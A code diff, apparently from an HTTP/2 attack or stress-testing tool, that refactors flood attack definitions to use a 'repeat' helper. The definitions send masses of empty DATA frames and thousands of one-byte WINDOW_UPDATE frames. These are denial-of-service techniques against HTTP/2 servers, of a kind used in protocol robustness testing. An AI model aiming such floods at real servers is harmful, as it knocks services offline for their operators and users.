@@ -3,7 +3,7 @@
 import { requestBlock } from "../wire/field-block.ts";
 import { emptyPayload, Flag, FrameType, Setting } from "../wire/frames.ts";
 import { emptyMessage } from "../wire/messages.ts";
-import type { Attack } from "./attack.ts";
+import { type Attack, repeat } from "./attack.ts";
 
 const { END_HEADERS, END_STREAM, PADDED } = Flag;
 const collect = requestBlock("Collect");
@@ -23,9 +23,7 @@ export const dataFloods: readonly Attack[] = [
       const id = peer.openStream();
       return {
         begin: (batch) => batch.headers(id, collect, END_HEADERS),
-        write(batch) {
-          for (let index = 0; index < framesAPiece; index++) batch.data(id, emptyPayload);
-        },
+        ...repeat((batch) => batch.data(id, emptyPayload), framesAPiece),
       };
     },
   },
@@ -114,12 +112,10 @@ export const dataFloods: readonly Attack[] = [
           batch.headers(id, feed, END_HEADERS);
           batch.data(id, emptyMessage, END_STREAM);
         },
-        write(batch) {
-          for (let index = 0; index < 2000; index++) {
-            batch.word(FrameType.WINDOW_UPDATE, id, 1);
-            batch.word(FrameType.WINDOW_UPDATE, 0, 1);
-          }
-        },
+        ...repeat((batch) => {
+          batch.word(FrameType.WINDOW_UPDATE, id, 1);
+          batch.word(FrameType.WINDOW_UPDATE, 0, 1);
+        }, 2000),
       };
     },
   },
